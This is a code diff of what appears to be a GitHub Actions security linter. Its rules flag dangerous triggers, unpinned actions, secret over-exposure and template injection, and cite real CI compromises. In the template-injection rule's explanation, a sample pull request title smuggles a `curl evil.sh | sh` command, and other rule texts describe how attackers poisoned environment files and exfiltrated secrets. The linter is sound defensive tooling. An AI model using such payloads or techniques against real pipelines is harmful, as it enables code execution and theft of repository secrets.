     const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
-    report({
+    report2({
       span,
       message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
     });
@@ -11906,7 +11985,7 @@ var dangerousTriggers = {
     why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Astral forbids both triggers organisation-wide.",
     fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const trigger of workflow.triggers) {
@@ -11915,7 +11994,7 @@ var dangerousTriggers = {
       const jobs = workflow.jobs.length;
       const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
       const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
-      report({
+      report2({
         span: trigger.span,
         message: `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}; ${subject} ${verb}`
       });
@@ -11956,7 +12035,7 @@ var dependabotCooldown = {
     why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
     fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
@@ -11971,7 +12050,7 @@ var dependabotCooldown = {
       if (!cooldownEntry) {
         const firstKey = update.entries[0];
         const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
-        report({
+        report2({
           span: anchor,
           message: `${name} updates have no cooldown: new releases are proposed the day they are published. Add \`cooldown: { default-days: ${minimum} }\``,
           fixes: [
@@ -11989,7 +12068,7 @@ var dependabotCooldown = {
       const days = cooldown.get("default-days");
       if (!days) {
         const first = mapEntries(cooldown.map, file.doc)[0];
-        report({
+        report2({
           span: cooldownEntry.keySpan,
           message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys wait only Dependabot's default. Set \`default-days: ${minimum}\``,
           fixes: first ? [{ title: `Set default-days: ${minimum}`, isPreferred: true, safety: "safe", edits: [insertLinesAbove(file, first.keySpan.start, [`default-days: ${minimum}`])] }] : []
@@ -12000,7 +12079,7 @@ var dependabotCooldown = {
       const value = text === null ? NaN : Number(text);
       if (Number.isFinite(value) && value >= minimum) continue;
       if (text !== null && text.includes("${{")) continue;
-      report({
+      report2({
         span: days.valueSpan,
         message: `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
         fixes: [{ title: `Raise default-days to ${minimum}`, isPreferred: true, safety: "safe", edits: [{ span: days.valueSpan, newText: String(minimum) }] }]
@@ -12023,14 +12102,14 @@ var dependabotExecution = {
     why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
     fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     for (const update of dependabot.updates) {
       const option = update.string("insecure-external-code-execution");
       if (!option || option.value !== "allow") continue;
       const ecosystem = update.string("package-ecosystem")?.value;
-      report({
+      report2({
         span: option.span,
         message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
         fixes: [{ title: "Set insecure-external-code-execution to deny", isPreferred: true, safety: "unsafe", edits: [{ span: option.span, newText: "deny" }] }]
@@ -12053,7 +12132,7 @@ var dependabotMissingActions = {
     why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
     fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const updatesEntry = dependabot.get("updates");
@@ -12085,7 +12164,7 @@ var dependabotMissingActions = {
         });
       }
     }
-    report({
+    report2({
       span: updatesEntry.keySpan,
       message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
       fixes
@@ -12934,6 +13013,7 @@ function envSets(env) {
 var LazyStepRef = class {
   constructor(step) {
     this.index = step.index;
+    this.position = step.position;
     this.span = step.uses?.valueSpan ?? step.run?.valueSpan ?? step.nodeSpan ?? { start: 0, end: 0 };
     this.step = step;
     this.cachedLabel = void 0;
@@ -13667,7 +13747,7 @@ var forbiddenUses = {
     why: `Every third-party action runs with the job's token and secrets. Organisations that vet actions (as GitHub's own "allowed actions" policy does) need the editor to say so before CI does; the 2025 tj-actions/changed-files and reviewdog compromises hit repositories that had never decided whether they trusted those owners.`,
     fix: "Use an allowed action, or extend the policy in `.github/actions-warden.yml` (or `zizmor.yml`): `rules: { forbidden-uses: { config: { allow: [actions/*, astral-sh/setup-uv] } } }`."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const allow = patterns(config.allow);
     const deny = allow ? null : patterns(config.deny);
     if (!allow && !deny) return;
@@ -13678,11 +13758,11 @@ var forbiddenUses = {
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
       if (allow) {
         if (!allow.some((pattern) => matchesUsesPattern(pattern, reference))) {
-          report({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
+          report2({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
         }
       } else if (deny) {
         const hit = deny.find((pattern) => matchesUsesPattern(pattern, reference));
-        if (hit) report({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
+        if (hit) report2({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
       }
     }
   }
@@ -13703,7 +13783,7 @@ var githubApp = {
     why: "App tokens are how hardened projects (Astral, the Trivy and Grafana post-mortems) replace long-lived PATs — but an App installation usually spans an organisation. In the 2025 Grafana incident an injected workflow stole exactly such credentials; a token scoped to one repository and a few permissions, revoked at the end of the job, limits what a thief can do and for how long.",
     fix: "Name the repositories (`repositories: repo-a`), request only the permissions used (`permission-contents: write`), and leave token revocation on."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || !APP_TOKEN_ACTIONS.has(reference.repository.toLowerCase()) || !site.step) continue;
@@ -13712,18 +13792,18 @@ var githubApp = {
       const label = `Step \`${step.label}\``;
       const skip = inputs.string("skip-token-revoke");
       if (skip && skip.value.trim().toLowerCase() === "true") {
-        report({ span: skip.span, message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour` });
+        report2({ span: skip.span, message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour` });
       }
       const owner = inputs.get("owner");
       if (owner && !inputs.has("repositories")) {
-        report({
+        report2({
           span: owner.keySpan,
           message: `${label} sets \`owner\` without \`repositories\`, so the token can act on every repository the App is installed on`,
           confidence: "medium"
         });
       }
       if (!inputs.entries.some((entry) => entry.key.startsWith("permission-"))) {
-        report({
+        report2({
           span: site.entry.valueSpan,
           message: `${label} requests no \`permission-*\` inputs, so the token carries every permission granted to the App: request only what the job uses`,
           severity: "medium"
@@ -14034,7 +14114,7 @@ var githubEnv = {
     why: "Every line of `GITHUB_ENV` becomes an environment variable of the later steps, and every line of `GITHUB_PATH` a directory searched first for commands. If an attacker chooses part of that text (a branch name with a newline, an artifact or file from a pull request), they set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put their directory in front of `PATH`, and run code with the job's secrets. GitHub disabled `::set-env::` in 2020 (CVE-2020-15228) for this reason; the environment files inherited the risk.",
     fix: 'Keep untrusted values out of the environment files: use step outputs (`GITHUB_OUTPUT`) and pass them to later steps through `env:`, validate the value first (`[[ "$V" =~ ^[0-9.]+$ ]]`), or write only literals. When a multi-line value must go to `GITHUB_ENV`, use the `NAME<<DELIMITER` form with a random delimiter.'
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     let severity;
     let context;
     if (file.workflow) {
@@ -14052,7 +14132,7 @@ var githubEnv = {
       const tainted = write.taint.kind === "tainted";
       const confidence = tainted ? "high" : "low";
       const quiet = !file.workflow && !tainted && !(write.taint.kind === "dynamic" && /inputs\./.test(write.taint.what));
-      report({
+      report2({
         span: write.span,
         message: `${how} writes ${describe(write.taint)} to \`${write.target}\` in ${context}: ${write.target === "GITHUB_PATH" ? "later steps look for commands in that directory first" : "later steps run with whatever variables that text sets (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`)"}`,
         severity: tainted ? "high" : quiet ? "low" : severity,
@@ -14157,7 +14237,7 @@ function resolvedUses(sites, snapshot, which) {
 }
 
 // server/src/rules/impostor-commit.ts
-function checkImpostorCommit({ file, online, report }) {
+function checkImpostorCommit({ file, online, report: report2 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const site of file.uses) {
@@ -14165,7 +14245,7 @@ function checkImpostorCommit({ file, online, report }) {
     if (!uses || uses.refKind !== "sha") continue;
     const membership = membershipFor(snapshot, uses);
     if (membership?.status !== "impostor") continue;
-    report({
+    report2({
       span: refOrValueSpan(site, uses),
       message: `Commit ${uses.ref} is not on any branch or tag of ${uses.repository} (compared with ${membership.checked} refs): it comes from a fork, and \`${usesTarget(uses)}\` runs the fork's code`
     });
@@ -14225,14 +14305,14 @@ var insecureCommands = {
     why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
     fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const env of envMaps(file)) {
       env.entries.forEach((entry, index) => {
         if (entry.key.toUpperCase() !== NAME) return;
         const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
         if (value === "false" || value === "0" || value === "") return;
         const edit = removeEntry(file, env, index);
-        report({
+        report2({
           span: entry.keySpan,
           message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
           confidence: value.includes("${{") ? "medium" : "high",
@@ -14625,7 +14705,7 @@ function available(value) {
 function unavailable(reason, detail) {
   return detail === void 0 ? { available: false, reason } : { available: false, reason, detail };
 }
-function valueOf(view) {
+function viewValue(view) {
   return view.available ? view.value : void 0;
 }
 function onlineView(snapshot) {
@@ -14768,8 +14848,8 @@ var knownVulnerableActions = {
     fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran.",
     onlineLookup: "the advisory database lookup"
   },
-  check({ file, online, report }) {
-    const snapshot = valueOf(online);
+  check({ file, online, report: report2 }) {
+    const snapshot = viewValue(online);
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || !reference.ref) continue;
@@ -14783,7 +14863,7 @@ var knownVulnerableActions = {
         const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
         if (sha) {
           if (advisory.badCommits?.includes(sha)) {
-            report({
+            report2({
               span: refSpan2,
               message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -14796,7 +14876,7 @@ var knownVulnerableActions = {
           const version2 = tagged ?? usesCommentVersion(file, site);
           if (version2 && verdict(version2, advisory) === "affected") {
             const fix = bumpFix(file, site, reference, refs, advisory);
-            report({
+            report2({
               span: refSpan2,
               message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -14826,7 +14906,7 @@ var knownVulnerableActions = {
           });
         }
         const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
-        report({
+        report2({
           span: refSpan2,
           message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
           severity: advisory.severity,
@@ -15000,16 +15080,16 @@ var overprovisionedSecrets = {
     why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
     fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     walkFencedExpressions(file, (node, span) => {
       if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
-        report({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
+        report2({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
         return false;
       }
       if (node.type === "index" && contextPath(node.object) === "secrets") {
         const index = node.index;
         if (!(index.type === "literal" && index.kind === "string")) {
-          report({ span, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
+          report2({ span, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
         }
       }
       return true;
@@ -15018,14 +15098,14 @@ var overprovisionedSecrets = {
 };
 
 // server/src/rules/ref-confusion.ts
-function checkRefConfusion({ file, online, report }) {
+function checkRefConfusion({ file, online, report: report2 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "named-refs")) {
     const found = findRef(refs, uses.ref);
     if (!found.tag || !found.branch) continue;
     const same = found.tag.commit === found.branch.commit;
-    report({
+    report2({
       span: refOrValueSpan(site, uses),
       message: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository}${same ? " (today on the same commit)" : ` (tag ${found.tag.commit.slice(0, 12)}…, branch ${found.branch.commit.slice(0, 12)}…)`}: \`${usesTarget(uses)}@${uses.ref}\` runs the branch, whatever the tag says`,
       confidence: same ? "medium" : "high"
@@ -15049,7 +15129,7 @@ var refConfusion = {
 };
 
 // server/src/rules/ref-version-mismatch.ts
-function checkRefVersionMismatch({ file, online, report }) {
+function checkRefVersionMismatch({ file, online, report: report2 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
@@ -15063,7 +15143,7 @@ function checkRefVersionMismatch({ file, online, report }) {
       if (!bestTag) continue;
       if (commentNamesRef(file, site, refs, sha)) continue;
       const edits = pinEdits(file, site, uses, sha, bestTag);
-      report({
+      report2({
         span: site.entry.valueSpan,
         message: `\`${target}@${sha.slice(0, 12)}…\` has no version comment; it is \`${bestTag}\``,
         severity: "low",
@@ -15086,7 +15166,7 @@ function checkRefVersionMismatch({ file, online, report }) {
       const edits = pinEdits(file, site, uses, tag.commit, claimed.text);
       if (edits) fixes.push({ title: `Re-pin to ${claimed.text} (${tag.commit.slice(0, 12)}…)`, isPreferred: false, safety: "unsafe", edits });
     }
-    report({
+    report2({
       span: claimed.span,
       message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
       related: [{ span: site.entry.valueSpan, message: `pinned commit ${sha}` }],
@@ -15132,7 +15212,7 @@ var secretsInherit = {
     why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
     fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`, e.g. `secrets: { PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }} }`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const job of workflow.jobs) {
@@ -15140,7 +15220,7 @@ var secretsInherit = {
       if (!secrets || scalarText(secrets.value) !== "inherit") continue;
       const target = scalarText(job.uses?.value ?? null) ?? "the called workflow";
       const local = target.startsWith("./") || target.startsWith("$/");
-      report({
+      report2({
         span: secrets.valueSpan,
         message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; pass only the secrets it declares`,
         severity: local ? "low" : "medium"
@@ -15163,7 +15243,7 @@ var secretsOutsideEnv = {
     why: "Secrets stored in a deployment environment are released only to jobs that name it, and only after its protection rules (required reviewers, allowed branches and tags) pass. In Nx s1ngularity (2025) and elementary-data (2026) a dispatchable or injectable workflow read publishing tokens straight from repository secrets; at spotbugs (2024) and Trivy (2026) the PAT sat in a `pull_request_target` job. Astral keeps every secret in an environment.",
     fix: "Move the secret into an environment (Settings → Environments) with required reviewers or a branch/tag rule, and add `environment: <name>` to the job. Secrets that are harmless can be listed in the rule's `allow` configuration."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     if (workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call")) return;
@@ -15176,7 +15256,7 @@ var secretsOutsideEnv = {
       const references = secretReferences(file, job.span).filter((secret) => !allow.has(secret.name.toUpperCase()));
       if (references.length === 0) continue;
       const names = [...new Set(references.map((secret) => secret.name === "*" ? "a computed secret" : `\`${secret.name}\``))];
-      report({
+      report2({
         span: references[0].span,
         message: `job \`${job.id}\` uses ${names.length === 1 ? "secret" : "secrets"} ${names.slice(0, 4).join(", ")}${names.length > 4 ? ` and ${names.length - 4} more` : ""} without an \`environment:\`: they are available to any run of this job, with no reviewer or branch rule`,
         related: references.slice(1, 8).map((secret) => ({ span: secret.span, message: `secret \`${secret.name}\`` }))
@@ -15200,7 +15280,7 @@ var selfHostedRunner = {
     why: "Self-hosted runners are not wiped between jobs: code from one run can leave a backdoor for the next and reach whatever the machine can reach. The Shai-Hulud 2 worm (2025) registered victims' machines as self-hosted runners and drove them with a `discussion` workflow; Praetorian's and John Stawinski's 2024 research took over PyTorch's release infrastructure through fork pull requests running on its self-hosted runners.",
     fix: "Use GitHub-hosted runners for anything an outsider can trigger; require approval for fork pull requests from all outside contributors; run self-hosted runners as ephemeral (`--ephemeral`, one job per VM) in a runner group restricted to specific private repositories and workflows."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const outsider = workflow.triggers.map((trigger) => trigger.name).filter((name) => OUTSIDER.includes(name));
@@ -15211,7 +15291,7 @@ var selfHostedRunner = {
       if (!hit) continue;
       const exposed = outsider.length > 0;
       const forkCode = outsider.includes("pull_request") || outsider.includes("pull_request_target");
-      report({
+      report2({
         span: hit.span,
         message: exposed ? `job \`${job.id}\` runs on ${hit.what} and \`${outsider[0]}\` lets ${triggerInfo(outsider[0])?.firedBy ?? "outsiders"} start it: a non-ephemeral runner can be backdoored` : `job \`${job.id}\` runs on ${hit.what}; make sure the runner is ephemeral and restricted to this repository`,
         severity: exposed ? forkCode ? "high" : "medium" : "medium",
@@ -15278,7 +15358,7 @@ var selfRepository = {
     why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
     fix: "Write `uses: $/path`. The quick fix is marked safe when the job checks out only its own repository at the default ref, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const site of file.uses) {
@@ -15292,7 +15372,7 @@ var selfRepository = {
       const leading = site.value.length - site.value.trimStart().length;
       const span = { start: site.valueStart + leading, end: site.valueStart + leading + raw.length };
       const replacement = `$/${raw.slice(2)}`;
-      report({
+      report2({
         span: { start: span.start, end: span.start + 2 },
         message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
         fixes: [{ title: `Use \`${replacement}\``, isPreferred: true, safety: safe ? "safe" : "unsafe", edits: [{ span: { start: span.start, end: span.start + 2 }, newText: "$/" }] }]
@@ -15302,12 +15382,12 @@ var selfRepository = {
 };
 
 // server/src/rules/stale-action-refs.ts
-function checkStaleActionRefs({ file, online, report }) {
+function checkStaleActionRefs({ file, online, report: report2 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
     if (refs.tags.length === 0 || tagsAt(refs, uses.ref).length > 0) continue;
-    report({
+    report2({
       span: refOrValueSpan(site, uses),
       message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
     });
@@ -15361,7 +15441,7 @@ var superfluousActions = {
     why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
     fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || reference.subpath !== null) continue;
@@ -15369,7 +15449,7 @@ var superfluousActions = {
       if (!entry) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
+      report2({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
     }
   }
 };
@@ -15439,11 +15519,10 @@ function runLanguage(scope, step) {
   const shell = stepShell(scope, step);
   return shell === "pwsh" || shell === "powershell" ? "pwsh" : shell === "cmd" ? "cmd" : shell === "python" ? "python" : "bash";
 }
-function sinkOf(file, site, scope) {
+function sinkOf(site, scope, base2) {
   const step = scope.step;
   if (!step) return null;
   const path = site.path;
-  const base2 = file.workflow ? 4 : 3;
   if (path.length === base2 + 1 && path[base2] === "run") {
     const entry = step.run;
     if (!entry) return null;
@@ -15477,14 +15556,15 @@ var templateInjection = {
     why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
   },
-  check({ file, report }) {
-    const base2 = file.workflow ? 4 : 3;
+  check({ file, report: report2 }) {
+    const kind = file.workflow ? "workflow" : "action";
     for (const site of file.expressions) {
       if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
       const path = site.path;
-      if (!(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
+      const base2 = stepKeysStart(path, kind);
+      if (base2 === -1 || !(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
       const scope = scopeOf(file, path);
-      const sink = sinkOf(file, site, scope);
+      const sink = sinkOf(site, scope, base2);
       if (!sink) continue;
       const leaves = assessSite(site, scope);
       if (leaves.length === 0) continue;
@@ -15497,7 +15577,7 @@ var templateInjection = {
           const fix = canMove ? moveToEnv(file, site, sink, sink.language ?? runLanguage(scope, step), step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
           return fix ? [fix] : [];
         };
-        report({
+        report2({
           span: { start: leaf.start, end: leaf.end },
           message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
           severity: verdict2.severity,
@@ -15784,14 +15864,14 @@ var typosquatUses = {
     why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
     fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
       const target = typosquatTarget(reference.repository);
       if (!target) continue;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
-      report({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
+      report2({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
     }
   }
 };
@@ -16016,7 +16096,7 @@ var unpinnedTools = {
     why: "In Trivy #2 (2026, CVE-2026-33634) the release channel of trivy was taken over: workflows that had pinned `aquasecurity/setup-trivy` or `trivy-action` to a commit still downloaded the malicious trivy 0.69.4, because the action defaulted to the latest release. `reviewdog/action-setup` (CVE-2025-30154) had the same `reviewdog_version: latest` default.",
     fix: "Set the version input to an exact release (`version: v0.69.3`, `reviewdog_version: v0.20.3`), and let Dependabot/Renovate propose updates with a cooldown."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const { job, step } of allSteps(file)) {
       const action = stepAction(file, step);
       const tool = action && TOOL_ACTIONS[action.name];
@@ -16028,7 +16108,7 @@ var unpinnedTools = {
       if (!(latest || absent && tool.absentIsLatest || absent && !tool.absentIsLatest)) continue;
       const credentials = publishCredentials(file, job);
       const certain = latest || tool.absentIsLatest;
-      report({
+      report2({
         span: entry ? entry.valueSpan : action.site.entry.valueSpan,
         message: `\`${action.name}\` installs ${latest ? `\`${value.trim() || "latest"}\`` : "the latest (or the action's default)"} ${tool.tool}${absent ? ` (no \`${tool.input}:\`)` : ""}: pinning the action does not pin the tool${credentials ? `, in a job holding publish credentials (${credentials})` : ""}`,
         severity: credentials ? "high" : certain ? "medium" : "low",
@@ -16036,6 +16116,120 @@ var unpinnedTools = {
         persona: certain ? "regular" : "pedantic"
       });
     }
+  }
+};
+
+// server/src/rules/unknown-step-reference.ts
+var PLAIN_ID = /^[A-Za-z0-9_-]+$/;
+var MAX_SUGGESTED_LENGTH = 100;
+var SUGGESTION_BUDGET = 2e6;
+function targetOf2(file, node, source) {
+  const start = source ? valueOffsetInSource(source, file.text) : null;
+  if (start === null) return { value: node.value, span: node.span, exact: false };
+  return { value: node.value, span: { start, end: start + node.value.length }, exact: true };
+}
+function targets2(file, entry, list) {
+  if (!entry || !entry.value) return [];
+  const single = spannedString(entry.value);
+  if (single) return [targetOf2(file, single, entry.value)];
+  if (!list) return [];
+  const found = [];
+  for (const item of seqItems(asSeq(entry.value), file.doc)) {
+    const id = spannedString(item);
+    if (id) found.push(targetOf2(file, id, item));
+  }
+  return found;
+}
+function closest(wanted, known, budget) {
+  const lower2 = wanted.toLowerCase();
+  const sameLetters = known.byLower.get(lower2);
+  if (sameLetters !== void 0) return sameLetters;
+  if (wanted.length > MAX_SUGGESTED_LENGTH || budget.left <= 0) return null;
+  const limit = Math.max(1, Math.min(3, Math.floor(wanted.length / 3)));
+  let best = null;
+  let bestDistance = limit + 1;
+  for (let i = 0; i < known.list.length; i++) {
+    const candidate = known.lower[i];
+    budget.left -= 1;
+    if (budget.left < 0) return best;
+    if (candidate.length > MAX_SUGGESTED_LENGTH || Math.abs(candidate.length - lower2.length) > limit) continue;
+    budget.left -= (lower2.length + 1) * (candidate.length + 1);
+    const distance = editDistance(lower2, candidate, limit);
